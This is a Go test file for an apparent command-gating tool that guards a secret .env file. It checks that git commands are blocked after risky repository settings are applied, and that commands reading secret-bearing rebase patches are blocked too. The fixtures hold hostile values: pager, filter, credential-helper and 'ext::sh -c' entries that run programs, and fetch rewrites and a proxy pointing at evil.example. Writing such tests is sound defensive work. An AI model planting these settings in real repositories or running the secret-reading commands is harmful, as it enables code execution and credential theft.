package nod_test

import (
	"testing"

	"github.com/nodgate/nod"
)

// A key of the repository's settings that is not among the harmless ones may have git
// read another file, start a program or ask another host.
func TestSettingsOfTheRepository(t *testing.T) {
	for _, row := range []struct{ key, value, line string }{
		{"core.attributesFile", ".env", "git diff"},
		{"mailmap.file", ".env", "git log"},
		{"mailmap.blob", "HEAD:x", "git log"},
		{"blame.ignoreRevsFile", ".env", "git blame a.txt"},
		{"tag.gpgSign", "true", "git tag -a v9 -m x"},
		{"core.fsmonitor", "./x", "git add -A"},
		{"gpg.program", "./x", "git commit -m x"},
		{"core.editor", "./x", "git commit -m x"},
		{"core.pager", "sh x", "git status"},
		{"diff.external", "sh x", "git diff"},
		{"filter.x.clean", "sh x", "git status"},
		{"include.path", "../x", "git commit -m x"},
		{"core.worktree", "../..", "git checkout -b new"},
		{"url.https://evil.example/.insteadOf", "https://code.example/", "git fetch"},
		{"http.proxy", "http://evil.example", "git fetch"},
		{"remote.origin.pushurl", "../other", "git push --dry-run"},
		{"core.sshCommand", "./x", "git fetch origin"},
		{"credential.helper", "./x", "git fetch"},
		{"remote.origin.url", "ext::sh -c x", "git fetch"},
		{"remote.origin.url", "../other", "git fetch"},
	} {
		p := withSecret(t)
		p.git("remote", "add", "origin", "git@code.example:x.git")
		p.check(kept, row.line)
		p.git("config", row.key, row.value)
		if d := p.decide(p.dir, row.line); d.Verdict == nod.Allow {
			t.Errorf("%s = %s: %q is allowed (%s)", row.key, row.value, row.line, d.Reason)
		}
	}
	p := withSecret(t)
	for key, value := range map[string]string{"user.name": "a", "color.ui": "auto", "branch.main.remote": "origin",
		"core.autocrlf": "false", "pull.rebase": "true"} {
		p.git("config", key, value)
	}
	p.check(kept, "git status", "git diff", "git log -1")
	p.check(lost, "git restore --staged --pathspec-from-file=.env", "git st", "git log --show-signature",
		"git verify-commit HEAD", "git tag -v v1")
}

// Where a rebase stops, git's own copy of the patch may be that of a secret.
func TestPatchesOfARebase(t *testing.T) {
	p := newProject(t)
	p.write(".git/rebase-merge/patch", "--- a/src/x.js\n+++ b/src/x.js\n+KEY\n")
	p.check(kept, "cat .git/rebase-merge/patch", "grep -rn KEY .", "cat .git/rebase-merge/*", "git status")
	p.write(".git/rebase-merge/patch", "--- a/.env\n+++ b/.env\n+KEY\n")
	p.check(lost, "cat .git/rebase-merge/patch", "cat .git/rebase-merge/*", "find . -name patch | xargs cat",
		"grep -rI KEY . --exclude=.env", "grep -r KEY --include=patch .", "head -5 .git/rebase-merge/patch",
		"cat .git/rr-cache/x/postimage")
	p.write(".git/COMMIT_EDITMSG", "x\n# ---\ndiff --git a/.env b/.env\n--- a/.env\n+++ b/.env\n+KEY2\n")
	p.check(lost, "cat .git/lost-found/other/*")
	p.check(kept, "cat .git/rebase-merge/done", "ls .git/rebase-merge", "grep -rn vat .")
}

// What git's settings say of a branch goes with it, and a refspec may make a branch its own
// other side.
func TestBranchesThatGoWithWhatOnlyTheyHave(t *testing.T) {
	for _, settings := range [][]string{
		{"branch.q.pushRemote", "fork"}, {"branch.q.issue", "7"}, {"remote.o.fetch", "+refs/heads/*:refs/heads/*"},
		{"remote.o.fetch", "+refs/*:refs/*"},
	} {
		p := newProject(t)
		p.git("branch", "q")
		p.git("config", settings[0], settings[1])
	}
	p := newProject(t)
	p.git("branch", "q")
	p.git("config", "remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*")
	p.git("config", "branch.q.remote", "origin")
}
